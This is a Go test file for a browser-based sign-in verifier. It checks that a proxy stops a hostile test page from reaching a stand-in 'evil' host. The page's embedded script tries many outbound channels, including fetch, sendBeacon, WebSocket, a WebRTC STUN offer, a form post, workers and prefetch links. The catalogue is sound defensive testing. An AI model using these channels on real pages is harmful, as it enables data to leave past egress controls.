package browser

import (
	"context"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"postern/core/rotation"
)

// evil is the host an escaping page tries to reach. It notes by which channel somebody came.
type evil struct {
	address string
	mutex   sync.Mutex
	came    map[string]bool
}

func newEvil(t *testing.T) *evil {
	t.Helper()
	// Another loopback address, so that it is another host than the app's.
	listener, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("skipped: second loopback address: %v", err)
	}
	e := &evil{address: listener.Addr().String(), came: map[string]bool{}}
	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: e}}
	server.Start()
	t.Cleanup(func() {
		server.CloseClientConnections()
		server.Close()
	})
	packets, err := net.ListenPacket("udp", e.address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = packets.Close() })
	go func() {
		buffer := make([]byte, 1500)
		if _, _, err := packets.ReadFrom(buffer); err == nil {
			e.note("webrtc")
		}
	}()
	return e
}

func (e *evil) note(channel string) {
	e.mutex.Lock()
	defer e.mutex.Unlock()
	e.came[channel] = true
}

func (e *evil) channels() []string {
	e.mutex.Lock()
	defer e.mutex.Unlock()
	return slices.Sorted(maps.Keys(e.came))
}

func (e *evil) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	e.note(strings.TrimPrefix(r.URL.Path, "/"))
	w.Header().Set("Access-Control-Allow-Origin", "*")
}

// escaping is an app whose pages try every way to another host.
func escaping(e *evil) http.Handler {
	script := strings.ReplaceAll(`
new Image().src='http://EVIL/img';
document.body.append(Object.assign(document.createElement('iframe'),{src:'http://EVIL/frame'}));
fetch('http://EVIL/fetch',{mode:'no-cors'}).catch(()=>{});
navigator.sendBeacon('http://EVIL/beacon','x');
try{new WebSocket('ws://EVIL/websocket')}catch{}
try{new EventSource('http://EVIL/eventsource')}catch{}
window.open('http://EVIL/popup');
document.body.append(Object.assign(document.createElement('iframe'),{src:'/redirect'}));
new Worker('/worker.js');
navigator.serviceWorker.register('/service-worker.js');
document.head.append(Object.assign(document.createElement('link'),{rel:'prefetch',href:'http://EVIL/prefetch'}));
document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:'http://EVIL/stylesheet'}));
document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:'http://EVIL/'}));
const form=Object.assign(document.createElement('form'),{action:'http://EVIL/form',method:'post',target:'_blank'});document.body.append(form);form.submit();
try{const p=new RTCPeerConnection({iceServers:[{urls:'stun:EVIL'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))}catch{}
`, "EVIL", e.address)
	mux := http.NewServeMux()
	page := func(inner string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, "<!doctype html><body>%s<script>%s</script>", inner, script)
		}
	}
	mux.HandleFunc("GET /sign-in", page(`<form method="post" action="/sign-in"><input name="username" autocomplete="username"><input type="password" name="password"><button>Sign in</button></form>`))
	mux.HandleFunc("POST /sign-in", func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(1500 * time.Millisecond) // a slow app: the channels have that long
		page(`<a href="/logout">Log out</a>`)(w, r)
	})
	mux.HandleFunc("GET /redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+e.address+"/redirect", http.StatusFound)
	})
	javascript := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, strings.ReplaceAll(text, "EVIL", e.address))
		}
	}
	mux.HandleFunc("GET /worker.js", javascript(`fetch('http://EVIL/worker',{mode:'no-cors'})`))
	mux.HandleFunc("GET /service-worker.js", javascript(`self.oninstall=e=>e.waitUntil(fetch('http://EVIL/serviceworker',{mode:'no-cors'}))`))
	return mux
}

// TestNothingEscapes counts the channels by which an escaping page reaches another host: none, where a
// bare browser lets nearly all of them through.
func TestNothingEscapes(t *testing.T) {
	b := connector(t)
	reached := newEvil(t)
	server := httptest.NewServer(escaping(reached))
	defer server.Close()
	target := rotation.Target{AppName: "escaping", Domains: []string{"127.0.0.1"}, SignInURL: server.URL + "/sign-in"}
	report := b.Verify(short(t), target, credential("quay", first))
	expect(t, report, rotation.Accepted, "")
	if came := reached.channels(); len(came) != 0 {
		t.Errorf("the other host was reached by %v", came)
	}
	if len(report.Hosts) != 1 || report.Hosts[0] != "127.0.0.1" {
		t.Errorf("hosts: %v", report.Hosts)
	}
	if !strings.Contains(string(report.Model), "127.0.0.2") {
		t.Errorf("the model does not name the refused host: %s", report.Model)
	}

	// The same page without the proxy, to know that the channels are open where nobody closes them.
	open := newEvil(t)
	bare := httptest.NewServer(escaping(open))
	defer bare.Close()
	allocator, cancel := chromedp.NewExecAllocator(t.Context(), append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(b.executable))...)
	defer cancel()
	ctx, cancel := chromedp.NewContext(allocator)
	defer cancel()
	if err := chromedp.Do(ctx); err != nil {
		t.Fatal(err)
	}
	limited, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	if err := chromedp.Do(limited, chromedp.Navigate(bare.URL+"/sign-in")); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(time.Minute)
	for len(open.channels()) < 11 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if came := open.channels(); len(came) < 11 {
		t.Errorf("without the proxy only %v reached the other host", came)
	} else {
		t.Logf("without the proxy: %v", came)
	}
}

func TestAllowList(t *testing.T) {
	for _, c := range []struct {
		domain, host, port string
		want               bool
	}{
		{"example.com", "example.com", "443", true}, {"example.com", "EXAMPLE.com.", "443", true}, {"example.com", "www.example.com", "443", true},
		{"example.com", "badexample.com", "443", false}, {"example.com", "example.com.evil.org", "443", false}, {"*.example.com", "a.example.com", "80", true},
		{"https://example.com/login", "example.com", "443", true}, {"example.com:8443", "example.com", "8443", true}, {"example.com:8443", "example.com", "443", false},
		{"127.0.0.1", "127.0.0.1", "8080", true}, {"0.0.1", "127.0.0.1", "80", false}, {"127.0.0.1:80", "127.0.0.1", "", true}, {"[::1]:80", "::1", "80", true}, {"", "", "", false},
	} {
		p := &proxy{domains: normalise([]string{c.domain})}
		if got := p.allows(c.host, c.port); got != c.want {
			t.Errorf("%q allows %s:%s: %v", c.domain, c.host, c.port, got)
		}
	}
}

// An answer that waits for a script which never comes says what it says; that one is signed in only a whole page says.
func TestAnAnswerThatStopsHalfWay(t *testing.T) {
	b := connector(t)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		form := `<form method="post"><label>User name <input name="user"></label><label>Password <input type="password" name="password"></label><button>Sign in</button></form>`
		const stuck = `<script src="/never"></script>`
		switch {
		case r.URL.Path == "/never":
			<-r.Context().Done()
		case r.Method != http.MethodPost:
			_, _ = fmt.Fprint(w, "<!doctype html><title>Quay</title>"+form)
		case r.FormValue("password") == first:
			_, _ = fmt.Fprint(w, `<!doctype html><title>Quay</title><a href="/sign-out">Sign out</a>`+stuck+form)
		default:
			_, _ = fmt.Fprint(w, `<!doctype html><title>Quay</title><p role="alert">Wrong password.</p>`+form+stuck+"<p>The end</p>")
		}
	}))
	t.Cleanup(func() {
		server.CloseClientConnections()
		server.Close()
	})
	target := rotation.Target{AppName: "Quay", Domains: []string{"127.0.0.1"}, SignInURL: server.URL + "/sign-in", Settings: []byte(`{"timeout_seconds": 3}`)}
	expect(t, b.Verify(short(t), target, credential("quay", "wrong")), rotation.Rejected, rotation.StageVerify)
	expect(t, b.Verify(short(t), target, credential("quay", first)), rotation.Unknown, "")
}
